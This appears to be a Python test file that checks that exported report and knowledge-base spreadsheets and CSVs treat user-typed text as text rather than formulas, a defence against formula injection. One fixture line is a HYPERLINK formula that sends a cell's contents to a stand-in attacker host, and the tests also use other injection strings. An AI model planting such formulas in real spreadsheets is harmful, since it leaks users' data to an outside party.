"""Exported spreadsheets never run what people typed (formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from dataclasses import replace

from openpyxl import load_workbook

from knowledge.council.reports import Report, to_csv
from knowledge.council.reports import to_xlsx as report_xlsx
from knowledge.kb.xlsx import read_xlsx
from knowledge.kb.xlsx import to_xlsx as kb_xlsx

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Open report")'


def _formulas(workbook: bytes) -> list[str]:
    """The formula elements in every sheet of a workbook, as Excel would see them."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def _report() -> Report:
    counts = {b: [] for b in ("country", "topic", "outcome", "channel", "language", "month")}
    counts["member"] = [(EVIL, 3), ("+994 trick", 1)]
    return Report(dt.date(2026, 1, 1), dt.date(2026, 12, 31), 4, counts)


def test_a_member_name_is_text_in_the_report_workbook():
    workbook = report_xlsx(_report(), lambda breakdown, code: code)
    sheet = load_workbook(io.BytesIO(workbook))["member"]
    assert _formulas(workbook) == []
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s"


def test_a_member_name_cannot_start_a_formula_in_the_report_csv():
    rows = list(csv.reader(io.StringIO(to_csv(_report(), lambda breakdown, code: code))))
    labels = [row[2] for row in rows if row[0] == "member"]
    assert labels == ["'" + EVIL, "'+994 trick"]


def test_a_migrants_wording_is_text_in_the_kb_workbook_and_reads_back_unchanged(bundled):
    entries, _ = bundled
    entry = entries[0]
    english = entry.translations["en"]
    wording = "=1+1 how much is registration"
    english = replace(english, alternates=(wording, *english.alternates))
    changed = replace(entry, translations={**entry.translations, "en": english})
    workbook = kb_xlsx([changed])
    assert _formulas(workbook) == []
    result = read_xlsx(workbook, "kb.xlsx")
    assert wording in result.entries[0][1].translations["en"].alternates
